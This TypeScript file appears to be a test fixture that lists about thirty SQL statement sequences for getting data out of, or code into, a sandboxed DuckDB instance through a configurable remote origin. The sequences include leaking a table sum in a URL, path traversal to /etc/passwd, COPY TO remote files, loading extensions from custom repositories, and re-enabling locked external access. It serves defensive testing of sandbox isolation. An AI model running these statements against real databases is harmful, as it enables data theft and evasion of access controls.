/** Ways for SQL to reach another machine; each a short script of which any statement may fail. */
export function exfiltrationVectors(origin: string): Readonly<Record<string, readonly string[]>> {
  const file = (name: string) => `'${origin}/${name}'`;
  return {
    read_csv: [`FROM read_csv(${file("read.csv")})`],
    "read_csv with a secret": [
      `SET VARIABLE leak = (SELECT '${origin}/leak.csv?q=' || sum(members) FROM shipped)`,
      "FROM read_csv(getvariable('leak'))",
    ],
    "read_csv of several": [`FROM read_csv([${file("one.csv")}, ${file("two.csv")}])`],
    "read_csv through the data directory": [
      "FROM read_csv('data/../../etc/passwd')",
      `FROM read_csv('data/${origin}/x.csv')`,
    ],
    "a path as a table": [`FROM ${file("table.csv")}`],
    sniff_csv: [`FROM sniff_csv(${file("sniff.csv")})`],
    read_text: [`FROM read_text(${file("read.txt")})`],
    read_blob: [`FROM read_blob(${file("read.blob")})`],
    glob: [`FROM glob('${origin}/*.csv')`],
    read_parquet: [`FROM read_parquet(${file("read.parquet")})`],
    read_json: [`FROM read_json(${file("read.json")})`],
    "COPY FROM": [
      "CREATE OR REPLACE TABLE got (a INTEGER, b INTEGER)",
      `COPY got FROM ${file("from.csv")}`,
    ],
    "COPY TO": [`COPY shipped TO ${file("to.csv")}`],
    "COPY TO of a query": [`COPY (SELECT 1) TO ${file("to2.csv")} (FORMAT csv)`],
    ATTACH: [`ATTACH ${file("attached.db")} AS attached`, "FROM attached.t"],
    "ATTACH to read": [`ATTACH ${file("readonly.db")} AS readonly (READ_ONLY)`],
    "EXPORT DATABASE": [`EXPORT DATABASE ${file("export")}`],
    "IMPORT DATABASE": [`IMPORT DATABASE ${file("import")}`],
    "LOAD of a URL": [`LOAD ${file("x.duckdb_extension.wasm")}`],
    "INSTALL of a URL": [`INSTALL ${file("y.duckdb_extension.wasm")}`],
    "INSTALL from a URL": [`INSTALL json FROM ${file("repository")}`, "LOAD json"],
    "a repository of one's own": [
      `SET custom_extension_repository = ${file("custom")}`,
      "INSTALL icu",
      "LOAD icu",
    ],
    "autoloading from a repository of one's own": [
      `SET custom_extension_repository = ${file("autoload")}`,
      "SET autoinstall_known_extensions = true",
      "SET autoload_known_extensions = true",
      "SELECT '{}'::JSON",
    ],
    "the path in a variable": [
      `SET VARIABLE path = ${file("variable.csv")}`,
      "FROM read_csv(getvariable('path'))",
    ],
    "the path in a macro": [
      `CREATE OR REPLACE MACRO far() AS TABLE FROM read_csv(${file("macro.csv")})`,
      "FROM far()",
    ],
    "the path in a view": [
      `CREATE OR REPLACE VIEW far_view AS FROM read_csv(${file("view.csv")})`,
      "FROM far_view",
    ],
    "PREPARE and EXECUTE": [
      "PREPARE far AS FROM read_csv($1)",
      `EXECUTE far(${file("prepared.csv")})`,
    ],
    "unlocking first": [
      "SET lock_configuration = false",
      "SET enable_external_access = true",
      "RESET allowed_directories",
      "PRAGMA enable_external_access = true",
      `FROM read_csv(${file("unlocked.csv")})`,
    ],
    "a storage service": [
      `SET s3_endpoint = '${new URL(origin).host}'`,
      "SET s3_use_ssl = false",
      "FROM read_csv('s3://bucket/x.csv')",
    ],
  };
}
